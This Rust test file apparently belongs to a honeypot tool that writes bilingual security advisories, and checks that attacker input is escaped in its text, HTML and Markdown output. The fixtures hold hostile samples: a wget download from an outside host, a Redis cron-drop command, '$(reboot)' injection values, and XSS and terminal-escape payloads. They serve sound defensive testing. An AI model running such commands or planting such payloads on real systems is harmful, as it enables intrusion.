//! Every part is said in both languages, what visitors chose acts nowhere, and the texts stand in snapshots that people read.

use kizashi_event::Timestamp;

use super::render::{html, markdown, markdown_code};
use super::*;
use crate::machine::{RealService, Relevance};
use crate::{
    CampaignKind, Certainty, MarkKind, MarkSeen, Recognised, Recognition, Scope, Seen, SeenAt,
    SeenPlace, Severity, SignKind, Strength,
};

fn sign(kind: SignKind, key: &str) -> Sign {
    let start = Timestamp::parse("2025-02-18T11:00:00Z").unwrap();
    let key: kizashi_event::Key = key.parse().unwrap();
    let mut sign = Sign::begun(kind, &key, start.plus(Timestamp::HOUR));
    "VNC screen sharing".clone_into(&mut sign.label);
    (sign.since, sign.until) = (start, start.plus(Timestamp::HOUR));
    (sign.days, sign.ratio, sign.ratio_low, sign.ratio_high) = (145.3, 8.4, 4.1, 17.9);
    (sign.events, sign.sources, sign.expected_sources) = (1_234, 21, 2.5);
    (sign.severity, sign.before, sign.after, sign.rising) = (Severity::Medium, 60.0, 504.0, 40);
    sign.ports = vec!["tcp/22".to_owned(), "tcp/23".to_owned()];
    sign
}

fn recognised(id: &str, kind: MarkKind, text: &str) -> Recognition {
    let campaign = Campaigns::builtin();
    let campaign = campaign.get(id).unwrap();
    let mark = MarkSeen { kind, text: text.to_owned(), strength: Strength::Strong, visitors: 17 };
    Recognition {
        certainty: Certainty::Sure,
        campaigns: vec![Recognised {
            id: id.to_owned(),
            name: campaign.name.en.clone(),
            kind: CampaignKind::Miner,
            certainty: Certainty::Sure,
            points: 9.0,
            marks: vec![mark],
        }],
        visitors: 21,
        spoke: 19,
    }
}

fn evidence() -> Evidence {
    Evidence {
        sources: vec![
            ("192.0.2.7".to_owned(), 900),
            ("2001:db8::1".to_owned(), 3),
            ("198.51.100.9".to_owned(), 2),
        ],
        countries: vec![("BR".to_owned(), 12), ("XX".to_owned(), 1)],
        passwords: vec![(String::new(), 12), ("123456".to_owned(), 8)],
        commands: vec![("cd /tmp; wget http://198.51.100.9/x.sh".to_owned(), 4)],
        payloads: vec![("RFB 003.008\\x0a".to_owned(), 40)],
        ..Evidence::default()
    }
}

fn told(
    sign: &Sign,
    evidence: &Evidence,
    language: Language,
    machine: Option<&Machine>,
) -> Advisory {
    let campaigns = Campaigns::builtin();
    advisory_in(sign, evidence, &Around { language, campaigns: &campaigns, machine })
}

/// Compares with a file that people read; `KIZASHI_BLESS=1` writes it anew.
fn snapshot(name: &str, text: &str) {
    let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/advisories").join(name);
    if std::env::var_os("KIZASHI_BLESS").is_some() {
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, text).unwrap();
    }
    let kept = std::fs::read_to_string(&path).unwrap_or_default();
    assert_eq!(
        text, kept,
        "{name} is not as it was: KIZASHI_BLESS=1 writes it anew, read the difference"
    );
}

#[test]
fn the_texts_are_as_people_read_them() {
    let mut known = sign(SignKind::Rise, "tcp/6379");
    "Redis".clone_into(&mut known.label);
    known.recognised =
        recognised("redis-cron", MarkKind::Command, "config set dir /var/spool/cron");
    known.also = vec!["signature:redis class: cron drop".to_owned()];
    let machine = Machine {
        read: Timestamp::parse("2025-02-18T06:00:00Z").unwrap(),
        services: vec![RealService {
            port: kizashi_event::Port::tcp(6380),
            address: "0.0.0.0".to_owned(),
            program: Some("redis-server".to_owned()),
            is_local: false,
        }],
        packages: [("redis-server".to_owned(), "5:7.0.15-1~deb12u1".to_owned())].into(),
        ssh_passwords: Some(true),
    };
    for language in Language::ALL {
        let code = language.code();
        let unknown = told(&sign(SignKind::Rise, "tcp/5900"), &evidence(), language, None);
        snapshot(&format!("unknown.{code}.txt"), &unknown.to_text());
        let known = told(&known, &evidence(), language, Some(&machine));
        snapshot(&format!("known.{code}.txt"), &known.to_text());
        snapshot(&format!("known.{code}.md"), &known.to_markdown());
        snapshot(&format!("known.{code}.html"), &known.to_html());
        let others = [
            (SignKind::SensorWide, "total"),
            (SignKind::PortSilent, "tcp/22"),
            (SignKind::SensorSilent, "total"),
            (SignKind::Misbehaviour, "total"),
            (SignKind::SensorAway, "total"),
        ]
        .map(|(kind, key)| told(&sign(kind, key), &Evidence::default(), language, None).to_text());
        snapshot(&format!("others.{code}.txt"), &others.join("\n----\n\n"));
    }
}

#[test]
fn a_rise_has_every_part_in_both_languages() {
    for language in Language::ALL {
        let text = told(&sign(SignKind::Rise, "tcp/22"), &evidence(), language, None);
        let ids: Vec<&str> = text.sections.iter().map(|section| section.id).collect();
        assert_eq!(
            ids,
            [
                "what", "since", "sure", "severity", "who", "tries", "probably", "exposed", "todo",
                "over"
            ]
        );
        let todo = text.section("todo").unwrap();
        assert_eq!(todo.steps.len(), 3);
        assert!(
            todo.steps
                .iter()
                .any(|step| step.commands.iter().any(|line| line.contains("sshd_config.d")))
        );
        assert!(
            todo.steps.iter().any(|step| step
                .commands
                .iter()
                .any(|line| line.contains("192.0.2.7, 198.51.100.9")))
        );
        assert!(
            [&text.what, &text.since, &text.who, &text.what_to_do]
                .iter()
                .all(|part| !part.is_empty())
        );
    }
}

#[test]
fn commands_have_nothing_left_to_fill_in_and_name_no_visitors_words() {
    let hostile = Evidence {
        sources: vec![
            ("$(reboot)".to_owned(), 1),
            ("1.2.3.4; reboot".to_owned(), 1),
            ("192.0.2.1".to_owned(), 1),
        ],
        ..Evidence::default()
    };
    for number in [
        22, 23, 25, 80, 445, 1433, 3306, 5432, 6379, 9200, 27017, 2375, 502, 9100, 5060, 11434,
        4444,
    ] {
        let text = told(
            &sign(SignKind::Rise, &format!("tcp/{number}")),
            &hostile,
            Language::English,
            None,
        );
        for line in
            text.sections.iter().flat_map(|part| &part.steps).flat_map(|step| &step.commands)
        {
            assert!(
                !line.contains("reboot") && !line.contains("{port}") && !line.contains("{sources}"),
                "{line}"
            );
        }
    }
    let text =
        told(&sign(SignKind::Rise, "tcp/4444"), &Evidence::default(), Language::English, None);
    assert!(!text.to_text().contains("@visitors"), "nobody to block");
}

/// What acts on a terminal, in markup, in Markdown, in a link.
const HOSTILE: &str = "\u{1b}]0;owned\u{7}\u{202e}\r\n<img src=x onerror=alert(1)></code><script>`` ```\n# h\n[a](javascript:alert(1)) **b** | x @everyone &lt;";

fn hostile_everywhere() -> (Sign, Evidence) {
    let many = || vec![(HOSTILE.repeat(3), 1), (HOSTILE.to_owned(), 2)];
    let evidence = Evidence {
        sources: many(),
        countries: many(),
        scanners: many(),
        users: many(),
        passwords: many(),
        commands: many(),
        paths: many(),
        clients: many(),
        payloads: many(),
        events_read: 1,
    };
    let mut sign = sign(SignKind::Rise, "tcp/22");
    sign.key = format!("password:{}", escape_for_people(HOSTILE));
    HOSTILE.clone_into(&mut sign.label);
    HOSTILE.clone_into(&mut sign.id);
    sign.also = vec![HOSTILE.to_owned(), format!("command-family:{HOSTILE}")];
    sign.ports = vec![HOSTILE.to_owned()];
    sign.recognised = recognised("outlaw", MarkKind::Command, HOSTILE);
    (sign, evidence)
}

#[test]
fn what_visitors_chose_does_nothing_on_a_terminal() {
    let (mut sign, evidence) = hostile_everywhere();
    for kind in [SignKind::Rise, SignKind::PortSilent, SignKind::SensorWide, SignKind::Misbehaviour]
    {
        sign.kind = kind;
        for language in Language::ALL {
            let text = told(&sign, &evidence, language, None).to_text();
            let acts = |c: char| (c.is_control() && c != '\n') || c == '\u{202e}';
            assert!(!text.chars().any(acts), "{text:?}");
            assert!(!text.lines().any(|line| line.starts_with("# h")));
        }
    }
}

#[test]
fn what_visitors_chose_does_nothing_in_markup() {
    let (sign, evidence) = hostile_everywhere();
    let page = told(&sign, &evidence, Language::Japanese, None).to_html();
    for acting in ["<img", "<script", "</code><script", "onerror=alert(1)>", "href=\"javascript"] {
        assert!(!page.contains(acting), "{acting}");
    }
    assert!(page.contains("&lt;img src=x onerror=alert(1)&gt;") && page.contains("&amp;lt;"));
    assert_eq!(html("<&\"'>"), "&lt;&amp;&quot;&#39;&gt;");
    assert!(page.starts_with("<!doctype html>\n<html lang=\"ja\">"));
}

#[test]
fn what_visitors_chose_does_nothing_in_markdown() {
    let (sign, evidence) = hostile_everywhere();
    let text = told(&sign, &evidence, Language::English, None).to_markdown();
    for line in text.lines() {
        // Outside code every acting character is escaped: what is left after code spans are taken out has none bare.
        let outside = without_code(line);
        for acting in ["<img", "<script", "](", "@everyone", "**b**"] {
            assert!(!outside.contains(acting), "{acting}: {line}");
        }
    }
    assert_eq!(markdown("[a](b) *c* <d> `e`"), "\\[a\\]\\(b\\) \\*c\\* \\<d\\> \\`e\\`");
    assert_eq!(markdown_code("a `` b"), "``` a `` b ```");
}

/// A line without its code spans, found as CommonMark finds them: by runs of backticks of one length.
fn without_code(line: &str) -> String {
    let (mut outside, mut rest) = (String::new(), line);
    while let Some(at) = rest.find(['`', '\\']) {
        if rest[at..].starts_with('\\') {
            // An escaped character stands for itself.
            outside.push_str(&rest[..at]);
            rest = rest.get(at + 2..).unwrap_or("");
            continue;
        }
        outside.push_str(&rest[..at]);
        let run = rest[at..].len() - rest[at..].trim_start_matches('`').len();
        let after = &rest[at + run..];
        let mut from = 0;
        let closing = loop {
            let Some(found) = after[from..].find('`') else { break None };
            let start = from + found;
            let length = after[start..].len() - after[start..].trim_start_matches('`').len();
            if length == run {
                break Some(start + length);
            }
            from = start + length;
        };
        match closing {
            Some(end) => rest = &after[end..],
            None => {
                outside.push_str(&rest[at..]);
                return outside;
            }
        }
    }
    outside + rest
}

#[test]
fn a_machine_that_lets_in_what_is_tried_is_told_so_first_and_judged_higher() {
    let ssh = RealService {
        port: kizashi_event::Port::tcp(22),
        address: "0.0.0.0".to_owned(),
        program: Some("sshd".to_owned()),
        is_local: false,
    };
    let mut machine =
        Machine { services: vec![ssh], ssh_passwords: Some(true), ..Machine::default() };
    let guessed = sign(SignKind::Rise, "tcp/22");
    let text = told(&guessed, &evidence(), Language::English, Some(&machine));
    assert_eq!((text.severity.relevance, text.severity.level), (Relevance::Open, Severity::High));
    assert!(text.section("exposed").unwrap().text[0].contains("lets people in by password"));
    machine.ssh_passwords = Some(false);
    let text = told(&guessed, &evidence(), Language::English, Some(&machine));
    assert_eq!((text.severity.relevance, text.severity.level), (Relevance::Some, Severity::Medium));
    machine.services.clear();
    let text = told(&guessed, &evidence(), Language::English, Some(&machine));
    assert_eq!((text.severity.relevance, text.severity.level), (Relevance::None, Severity::Low));
    assert!(text.section("exposed").unwrap().text[0].starts_with("No: nothing but a trap"));
    let text = told(&guessed, &evidence(), Language::English, None);
    assert_eq!(
        (text.severity.relevance, text.severity.level),
        (Relevance::Unknown, Severity::Medium)
    );
}

#[test]
fn levels_never_fall_below_low_or_rise_past_critical() {
    use super::exposure::level;
    for evidence in [Severity::Low, Severity::Medium, Severity::High, Severity::Critical] {
        let order = [
            Relevance::None,
            Relevance::Unknown,
            Relevance::Some,
            Relevance::High,
            Relevance::Open,
        ];
        let levels = order.map(|relevance| level(evidence, relevance));
        assert!(levels.windows(2).all(|pair| pair[0] <= pair[1]), "{evidence:?}: {levels:?}");
    }
    assert_eq!(level(Severity::High, Relevance::Open), Severity::Critical);
    assert_eq!(level(Severity::High, Relevance::High), Severity::High);
}

#[test]
fn a_sign_of_a_part_of_a_fleet_says_in_both_languages_where_it_is_seen() {
    let whole = sign(SignKind::Rise, "tcp/5900");
    let part = |scope: Scope| Sign { scope: Some(scope), ..whole.clone() };
    let tokyo = part(Scope::Sensor("tokyo".to_owned()));
    let asia = part(Scope::Group("asia".to_owned()));
    assert_eq!(tokyo.summary(), format!("Seen at sensor tokyo: {}", whole.summary()));
    assert_eq!(asia.facts().last().unwrap().value, "the sensors of asia");
    assert_eq!(asia.facts().len(), whole.facts().len() + 1);
    for (language, at_tokyo, in_asia) in [
        (Language::English, "at sensor tokyo", "at the sensors of asia"),
        (Language::Japanese, "センサー tokyo で", "グループ asia "),
    ] {
        let [whole, tokyo, asia] =
            [&whole, &tokyo, &asia].map(|sign| told(sign, &evidence(), language, None));
        assert!(tokyo.title.starts_with(&whole.title) && tokyo.title.contains(at_tokyo));
        assert!(asia.title.contains(in_asia), "{}", asia.title);
        assert!(tokyo.what.contains(at_tokyo) && tokyo.what.ends_with(&whole.what));
        assert!(asia.what.contains(in_asia) && asia.what.ends_with(&whole.what));
    }
}

#[test]
fn a_sign_of_many_sensors_names_those_that_see_it_in_both_languages_up_to_a_bound() {
    let place =
        |number: usize| SeenPlace { name: format!("fra-{number}"), sources: 12, expected: 3.1 };
    let seen = |count: usize, of: usize| Seen {
        count,
        of,
        named: (1..=count.min(16)).map(place).collect(),
    };
    let with = |sensors: Seen, groups: Seen| Sign {
        seen_at: Some(SeenAt { sensors, groups }),
        ..sign(SignKind::Rise, "tcp/5900")
    };
    let many = with(seen(12, 40), seen(2, 3));
    assert!(many.summary().starts_with("Seen at 12 of 40 sensors: fra-1, fra-2, fra-3 …: "));
    let none = with(seen(0, 40), seen(0, 3));
    assert_eq!(none.summary(), sign(SignKind::Rise, "tcp/5900").summary());
    let eight: Vec<String> = (1..=8).map(|number| format!("fra-{number}")).collect();
    for (language, sensors, groups, together) in [
        (
            Language::English,
            format!("It is seen at 12 of 40 sensors: {} ….", eight.join(", ")),
            "It is seen in 2 of 3 groups: fra-1, fra-2.",
            "No sensor sees it by itself",
        ),
        (
            Language::Japanese,
            format!("センサー 40 台のうち 12 台で観測されています（{} …）。", eight.join(", ")),
            "グループでは 3 個のうち 2 個で観測されています（fra-1, fra-2）。",
            "どのセンサーでも単独では目立たず",
        ),
    ] {
        let [many, none] = [&many, &none].map(|sign| told(sign, &evidence(), language, None));
        assert!(many.what.contains(&sensors) && many.what.contains(groups), "{}", many.what);
        assert!(none.what.contains(together) && !none.what.contains("fra-"), "{}", none.what);
    }
}
